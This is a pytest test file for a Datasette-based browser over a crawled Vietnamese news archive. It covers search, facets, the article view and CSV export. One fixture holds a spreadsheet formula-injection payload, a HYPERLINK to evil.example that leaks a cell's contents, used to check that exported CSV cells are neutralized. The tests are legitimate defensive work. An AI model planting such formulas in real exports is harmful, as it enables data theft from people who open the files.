"""`tinhuy browse`: the crawled replica in Datasette, as an analyst's browser shows it."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import unicodedata
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import datetime
from pathlib import Path
from urllib.parse import quote_plus, urlencode, urljoin

import pytest
from parsel import Selector

from tests.helpers import ROOT, free_port

SEED_TITLE = "Đồng chí Phó Bí thư Thường trực Tỉnh ủy làm việc với Trường Chính trị tỉnh"


@pytest.fixture(scope="module")
def chromium() -> str:
    """Debian's chromium, installed with apt-get when missing."""
    found = shutil.which("chromium")
    if found is None:
        print("\nchromium is missing: installing it with `apt-get install -y chromium`...")
        done = subprocess.run(
            ["apt-get", "install", "-y", "chromium"], capture_output=True, text=True, check=False
        )
        found = shutil.which("chromium")
        if found is None:
            pytest.fail(f"chromium missing and apt-get could not install it: {done.stderr[-300:]}")
    return found



@contextmanager
def browse(db: Path, log: Path) -> Iterator[str]:
    """`tinhuy browse` on `db`; yields the database's base URL."""
    port = free_port()
    server = start_browse(db, log, port)
    base = f"http://127.0.0.1:{port}"
    try:
        wait_serving(base, server, log)
        yield f"{base}/{db.stem}"
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=10)


def start_browse(db: Path, log: Path, port: int) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "crawler.cli", "browse", "--db", str(db), "--port", str(port)],
        cwd=ROOT,
        stdout=log.open("w"),  # a file, not a pipe: a full pipe would block the server
        stderr=subprocess.STDOUT,
        start_new_session=True,  # its own group: Datasette runs as its child
    )


def wait_serving(base: str, server: subprocess.Popen, log: Path) -> None:
    deadline = time.monotonic() + 30
    while True:
        try:
            urllib.request.urlopen(base + "/-/versions.json", timeout=2).close()
            return
        except OSError:
            if server.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"tinhuy browse did not start:\n{log.read_text()}")
            time.sleep(0.2)


@pytest.fixture(scope="module")
def browsing(crawled, tmp_path_factory) -> Iterator[str]:
    """`tinhuy browse` on the crawled replica."""
    with browse(Path(crawled.db), tmp_path_factory.mktemp("browse") / "browse.log") as url:
        yield url


def dom(chromium: str, url: str, tmp_path: Path) -> str:
    done = subprocess.run(
        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
         "--no-first-run", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", url],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def test_articles_page_shows_the_seed_article_and_facets(chromium, browsing, tmp_path) -> None:
    page = dom(chromium, f"{browsing}/articles", tmp_path)
    assert SEED_TITLE in page
    for facet in ("category", "author", "published (month)"):
        assert facet in page
    assert "Tin hoạt động" in page


def test_search_without_diacritics_finds_the_seed_article(chromium, browsing, tmp_path) -> None:
    page = dom(chromium, f"{browsing}/articles?_search={quote_plus('truong chinh tri')}", tmp_path)
    assert SEED_TITLE in list_titles(page)
    assert 'where search matches "truong chinh tri"' in page


def test_search_with_d_stroke_matches_the_folded_index(browsing) -> None:
    # đ is folded in the index; the search box must fold it as well.
    url = f"{browsing}/articles.json?_search={quote_plus('Đồng chí Trường Chính trị')}&_col=title"
    with urllib.request.urlopen(url, timeout=10) as response:
        body = response.read().decode()
    assert "Tr\\u01b0\\u1eddng Ch\\u00ednh tr\\u1ecb t\\u1ec9nh" in body


def test_browse_refuses_a_busy_port_in_one_line(crawled) -> None:
    from tests.helpers import tinhuy

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        done = tinhuy("browse", "--db", str(crawled.db), "--port", str(port), check=False)
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr == f"tinhuy: cannot listen on 127.0.0.1:{port}: Address already in use\n"


def test_browse_refuses_a_missing_archive(tmp_path) -> None:
    from tests.helpers import tinhuy

    done = tinhuy("browse", "--db", str(tmp_path / "none.db"), check=False)
    assert done.returncode == 2 and "no archive at" in done.stderr


# -- CSV export: formula cells neutralized (OWASP "CSV Injection") ---------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PHONE = "+84 912 345 678"


@pytest.fixture(scope="module")
def browsing_formulas(crawled, tmp_path_factory) -> Iterator[tuple[str, int]]:
    """`tinhuy browse` on a copy of the crawl whose first article's title is a formula
    and its lead a phone number; yields the base URL and that article's id."""
    tmp = tmp_path_factory.mktemp("formulas")
    db = tmp / "formulas.db"
    shutil.copy(crawled.db, db)
    with sqlite3.connect(db) as conn:
        first = conn.execute("SELECT min(id) FROM articles").fetchone()[0]
        conn.execute(
            "UPDATE articles SET title = ?, lead = ? WHERE id = ?", (FORMULA, PHONE, first)
        )
    with browse(db, tmp / "browse.log") as url:
        yield url, first


def download(url: str) -> tuple[str, str]:
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.headers["content-type"], response.read().decode("utf-8")


def test_every_csv_cell_of_the_table_is_neutralized(browsing_formulas) -> None:
    from pipelines.archive.dump.cells import neutralize

    base, first = browsing_formulas
    _, body = download(f"{base}/articles.csv?_stream=1")
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(body, newline=""))}
    assert rows[first]["title"] == "'" + FORMULA
    assert rows[first]["lead"] == "'" + PHONE
    # The rest comes through as the JSON export shows it, paragraph breaks and all.
    _, text = download(f"{base}/articles.json?_shape=array&_size=max")
    exported = json.loads(text)
    assert len(rows) == len(exported) > 40
    for article in exported:
        row = rows[article["id"]]
        for column, value in article.items():
            expected = "" if value is None else neutralize(str(value))
            assert row[column] == expected, (article["id"], column)
    assert any("\n\n" in row["body"] for row in rows.values())


def test_query_and_download_csv_are_neutralized_and_json_is_not(browsing_formulas) -> None:
    base, first = browsing_formulas
    sql = quote_plus("select id, title, lead from articles where id = :id")
    kind, body = download(f"{base}.csv?sql={sql}&id={first}")
    assert kind.startswith("text/plain")
    quoted = '"' + "'" + FORMULA.replace('"', '""') + '"'
    assert body == f"id,title,lead\r\n{first},{quoted},'{PHONE}\r\n"
    kind, body = download(f"{base}/articles.csv?_dl=1&id={first}&_col=title")
    assert kind.startswith("text/csv")
    assert list(csv.reader(io.StringIO(body, newline=""))) == [
        ["id", "title"],
        [str(first), "'" + FORMULA],
    ]
    # `_trace` would put the CSV in an HTML debug page; for a .csv it is dropped.
    kind, body = download(f"{base}/articles.csv?_trace=1&id={first}&_col=title")
    assert kind.startswith("text/plain") and "'=HYPERLINK" in body
    _, text = download(f"{base}/articles/{first}.json?_shape=array")
    assert json.loads(text)[0]["title"] == FORMULA


def test_csv_cells_rewrites_records_cut_anywhere() -> None:
    from crawler.browse_plugins.csv_cells import CsvCells
    from pipelines.archive.dump.cells import neutralize

    rows = [
        ["id", "title", "body"],
        ["1", FORMULA, 'Đoạn một.\r\n\r\n-Đoạn hai, có "ngoặc".'],
        ["2", "@SUM(A1:A2)", "\rVề đầu dòng"],
        ["3", "Tổng = 3", ""],
        ["-4", "\tTab", '"=trong ngoặc"'],
    ]
    source, expected = io.StringIO(), io.StringIO()
    csv.writer(source).writerows(rows)
    csv.writer(expected).writerows([[neutralize(cell) for cell in row] for row in rows])
    data = source.getvalue().encode("utf-8")
    for size in (1, 2, 3, 5, 64, len(data)):
        cells = CsvCells()
        out = b"".join(cells.feed(data[i : i + size]) for i in range(0, len(data), size))
        assert (out + cells.close()).decode("utf-8") == expected.getvalue(), size
    # A whole record goes out as soon as it has arrived.
    cells = CsvCells()
    assert cells.feed(b'1,"=a\r\n') == b""
    assert cells.feed(b'b"\r\n2,x') == b'1,"\'=a\r\nb"\r\n'
    assert cells.close() == b"2,x\r\n"


def test_only_successful_csv_responses_are_rewritten() -> None:
    import asyncio

    from crawler.browse_plugins.csv_cells import neutralize_csv

    async def app(scope, receive, send) -> None:
        status = 404 if scope["path"].startswith("/missing") else 200
        kind = b"application/json" if scope["path"].endswith(".json") else b"text/plain"
        await send(
            {
                "type": "http.response.start",
                "status": status,
                "headers": [(b"content-type", kind), (b"content-length", b"9")],
            }
        )
        await send({"type": "http.response.body", "body": scope["query_string"] + b"\r\n"})
        await send({"type": "http.response.body", "body": b"=1+1\r\n"})

    def get(path: str, query: bytes = b"") -> list[dict]:
        sent: list[dict] = []

        async def send(message) -> None:
            sent.append(message)

        scope = {"type": "http", "path": path, "query_string": query}
        asyncio.run(neutralize_csv(app)(scope, None, send))
        return sent

    sent = get("/db/articles.csv", b"_trace=1&_col=title&%5Ftrace=on")
    assert sent[0]["headers"] == [(b"content-type", b"text/plain")]
    assert [m["body"] for m in sent[1:]] == [b"_col=title\r\n", b"'=1+1\r\n"]
    # An error page for a .csv path, and other formats, go out as they came.
    sent = get("/missing.csv")
    assert (b"content-length", b"9") in sent[0]["headers"]
    assert [m["body"] for m in sent[1:]] == [b"\r\n", b"=1+1\r\n"]
    for path in ("/db/articles.json", "/db/articles"):
        sent = get(path, b"_trace=1")
        assert (b"content-length", b"9") in sent[0]["headers"]
        assert [m["body"] for m in sent[1:]] == [b"_trace=1\r\n", b"=1+1\r\n"], path


# -- the reading view ----------------------------------------------------------------


def stored(db: Path, sql: str, *params: object) -> list[sqlite3.Row]:
    with sqlite3.connect(db) as conn:
        conn.row_factory = sqlite3.Row
        return conn.execute(sql, params).fetchall()


def text_of(node: Selector) -> str:
    return " ".join(node.xpath("string()").get().split())


def list_titles(page: str) -> list[str]:
    return [text_of(a) for a in Selector(page).css("ol.tinhuy-list a.tinhuy-title")]


def test_article_page_reads_as_the_site_printed_it(chromium, crawled, browsing, tmp_path) -> None:
    (a,) = stored(crawled.db, "SELECT * FROM articles WHERE title = ?", SEED_TITLE)
    page = dom(chromium, f"{browsing}/articles/{a['id']}", tmp_path)
    article, facts = Selector(page).css("article.tinhuy-article"), Selector(page).css("aside")
    assert text_of(article.css("h1")) == a["title"]
    published = datetime.fromisoformat(a["published"]).strftime("%d/%m/%Y %H:%M")
    byline = text_of(article.css(".tinhuy-byline"))
    assert published in byline and a["author"] in byline and a["author_unit"] in byline
    assert text_of(article.css(".tinhuy-lead")) == " ".join(a["lead"].split())
    shown = [text_of(p) for p in article.css("p")]
    paragraphs = [" ".join(p.split()) for p in a["body"].split("\n\n") if p.strip()]
    assert paragraphs[0] == shown[shown.index(" ".join(a["lead"].split()))]
    for paragraph in paragraphs:
        assert paragraph in shown
    assert article.css(".tinhuy-original a::attr(href)").get() == a["canonical_url"]
    links = {text_of(link): link.attrib["href"] for link in facts.css("a")}
    for document in json.loads(a["documents"]):
        doc_id = document["doc_id"]
        assert links[doc_id].endswith("?" + urlencode({"_document": doc_id}))
    for official in json.loads(a["officials"]):
        name = official["name"]
        assert links[name].endswith("?" + urlencode({"_official": name}))
    related = json.loads(a["related"])
    archived = stored(
        crawled.db,
        "SELECT DISTINCT u.url, b.id, b.title FROM article_urls u JOIN articles b "
        f"ON b.id = u.article_id WHERE u.url IN ({', '.join('?' * len(related))})",
        *related,
    )
    assert archived
    for row in archived:
        assert links[row["title"]].endswith(f"/articles/{row['id']}")
    for row in stored(crawled.db, "SELECT url FROM article_urls WHERE article_id = ?", a["id"]):
        assert row["url"] in links
    assert "version 1" in links
    # Every column, as Datasette shows a row, one click away.
    _, columns = download(f"{browsing}/articles/{a['id']}?_view=table")
    assert "Read the article" in columns and 'class="col-fingerprint' in columns
    # JSON columns read as text, on the page and in the exports.
    assert "\\u" not in page
    _, exported = download(f"{browsing}/articles.csv?id={a['id']}&_col=captions&_col=officials")
    assert "\\u" not in exported
    assert json.loads(a["captions"])[0] in exported and a["author"] not in exported


def test_article_page_shows_images_with_captions(chromium, crawled, browsing, tmp_path) -> None:
    a = stored(crawled.db, "SELECT id, images FROM articles WHERE images LIKE '%caption%'")[0]
    page = Selector(dom(chromium, f"{browsing}/articles/{a['id']}", tmp_path))
    figures = [
        (figure.css("img::attr(src)").get(), text_of(figure.css("figcaption")))
        for figure in page.css("figure")
    ]
    assert figures == [(i["src"], i["caption"] or i["src"]) for i in json.loads(a["images"])]


def test_articles_list_is_one_entry_per_article_with_facets(
    chromium, crawled, browsing, tmp_path
) -> None:
    page = dom(chromium, f"{browsing}/articles", tmp_path)
    rows = stored(crawled.db, "SELECT * FROM articles ORDER BY published DESC")
    assert list_titles(page) == [r["title"] for r in rows]
    first = Selector(page).css("ol.tinhuy-list li")[0]
    assert text_of(first.css(".tinhuy-category")) == rows[0]["category"]
    assert text_of(first.css(".tinhuy-author")) == (rows[0]["author"] or "")
    assert text_of(first.css(".tinhuy-excerpt")).rstrip(" …") in " ".join(rows[0]["lead"].split())
    labels = {
        facet.css("strong::text").get().strip() for facet in Selector(page).css(".facet-info-name")
    }
    assert labels == {
        "site",
        "category",
        "published (month)",
        "author",
        "documents (cited)",
        "officials (named)",
    }
    # Column descriptions are one click away, after the search box, not above it.
    assert Selector(page).css("details.tinhuy-columns:not([open]) dt::text").get() == "site"
    assert page.index('class="tinhuy-search"') < page.index('class="tinhuy-columns"')
    home = Selector(dom(chromium, browsing, tmp_path))
    tables = {href.rsplit("/", 1)[-1] for href in home.css("a::attr(href)").getall()}
    assert "articles" in tables and "search" in tables
    assert not tables & {"article_bands", "article_signatures", "raw_pages", "listing_walks"}


def test_facet_links_narrow_the_list(chromium, crawled, browsing, tmp_path) -> None:
    page = Selector(dom(chromium, f"{browsing}/articles", tmp_path))
    cases = {
        "documents (cited)": "SELECT a.title, a.published FROM articles a JOIN article_documents d "
        "ON d.article_id = a.id WHERE d.doc_id = ?",
        "officials (named)": "SELECT a.title, a.published FROM articles a JOIN article_officials o "
        "ON o.article_id = a.id WHERE o.name = ?",
        "published (month)": "SELECT title, published FROM articles "
        "WHERE strftime('%m/%Y', published) = ?",
    }
    for facet in page.css(".facet-info"):
        label = facet.css(".facet-info-name strong::text").get().strip()
        if label not in cases:
            continue
        link = facet.css("li a")[0]
        value = text_of(link)
        expected = stored(crawled.db, cases.pop(label) + " ORDER BY published DESC", value)
        narrowed = dom(chromium, urljoin(browsing, link.attrib["href"]), tmp_path)
        assert list_titles(narrowed) == [r["title"] for r in expected], label
        assert int(link.xpath("following-sibling::text()").get()) == len(expected)
    assert not cases


def test_search_ranks_the_best_match_first_and_marks_the_words(
    chromium, crawled, browsing, tmp_path
) -> None:
    query = "truong chinh tri"
    by_date = json.loads(
        download(f"{browsing}/articles.json?_search={quote_plus(query)}&_shape=array")[1]
    )
    # The premise: by date, the article about the Trường Chính trị is not the first.
    assert by_date[0]["title"] != SEED_TITLE
    page = dom(chromium, f"{browsing}/search?q={quote_plus(query)}", tmp_path)
    titles = list_titles(page)
    assert titles[0] == SEED_TITLE
    assert sorted(titles) == sorted(a["title"] for a in by_date)
    marked = Selector(page).css("ol.tinhuy-list li")[0].css("mark::text").getall()
    assert {fold(word) for word in marked} == set(query.split())
    assert "Trường" in marked and "Chính" in marked
    # The same ranking exported.
    ranked = json.loads(download(f"{browsing}/search.json?q={quote_plus(query)}&_shape=array")[1])
    assert [r["title"] for r in ranked] == titles
    _, body = download(f"{browsing}/search.csv?q={quote_plus(query)}")
    assert [r["title"] for r in csv.DictReader(io.StringIO(body, newline=""))] == titles


def test_search_honours_quoted_phrases(chromium, browsing, tmp_path) -> None:
    loose = list_titles(dom(chromium, f"{browsing}/search?q=chinh+tri+truong", tmp_path))
    quoted = quote_plus('"truong chinh tri"')
    phrase = list_titles(dom(chromium, f"{browsing}/search?q={quoted}", tmp_path))
    assert SEED_TITLE in phrase and set(phrase) < set(loose)


def fold(word: str) -> str:
    """Without marks, đ as d, lower case: as the index holds a word."""
    decomposed = unicodedata.normalize("NFD", word.replace("đ", "d").replace("Đ", "D"))
    return "".join(c for c in decomposed if not unicodedata.combining(c)).lower()


def test_sigterm_to_browse_stops_datasette(crawled, tmp_path) -> None:
    log = tmp_path / "browse.log"
    server = start_browse(Path(crawled.db), log, 0)
    try:
        # Port 0: browse picks a free port and says which.
        deadline = time.monotonic() + 30
        while not (said := re.search(r"at http://127\.0\.0\.1:(\d+)/", log.read_text())):
            assert server.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.1)
        port = int(said.group(1))
        wait_serving(f"http://127.0.0.1:{port}", server, log)
        children = Path(f"/proc/{server.pid}/task/{server.pid}/children").read_text().split()
        assert children, "Datasette runs as a child of browse"
        os.kill(server.pid, signal.SIGTERM)  # browse alone, as a service manager does
        assert server.wait(timeout=15) == 0
        deadline = time.monotonic() + 10
        while any(Path(f"/proc/{pid}").exists() for pid in children):
            assert time.monotonic() < deadline, "Datasette still runs after browse stopped"
            time.sleep(0.1)
        with pytest.raises(OSError):
            socket.create_connection(("127.0.0.1", port), timeout=2).close()
    finally:
        with suppress(ProcessLookupError):
            os.killpg(server.pid, signal.SIGKILL)
        server.wait(timeout=10)


def test_highlight_marks_the_words_as_the_index_matches_them() -> None:
    from crawler.browse_plugins.words import highlight

    text = "Đảng ủy Trường Chính trị <b> & chính trị"
    assert str(highlight(text, "dang TRUONG chinh")) == (
        "<mark>Đảng</mark> ủy <mark>Trường</mark> <mark>Chính</mark> trị &lt;b&gt; &amp; "
        "<mark>chính</mark> trị"
    )
    # A phrase is marked where its words stand together, and only there.
    assert str(highlight(text, '"chinh tri"')).count("<mark>") == 2
    assert str(highlight("chính phủ trị", '"chinh tri"')) == "chính phủ trị"
    assert str(highlight(text, '" "')) == "Đảng ủy Trường Chính trị &lt;b&gt; &amp; chính trị"


def test_excerpt_is_one_line_around_the_first_match() -> None:
    from crawler.browse_plugins.words import excerpt

    words = [f"từ{i}" for i in range(200)]
    text = " ".join(words[:100]) + "\n\nTrường Chính trị " + " ".join(words[100:])
    cut = excerpt(text, "truong chinh", width=80)
    assert "\n" not in cut and len(cut) <= 80 + 4
    assert cut.startswith("… ") and cut.endswith(" …") and "Trường Chính trị" in cut
    assert excerpt(text, None, width=80).startswith("từ0 từ1 ")
    assert excerpt("Ngắn  gọn\n", "x") == "Ngắn gọn"
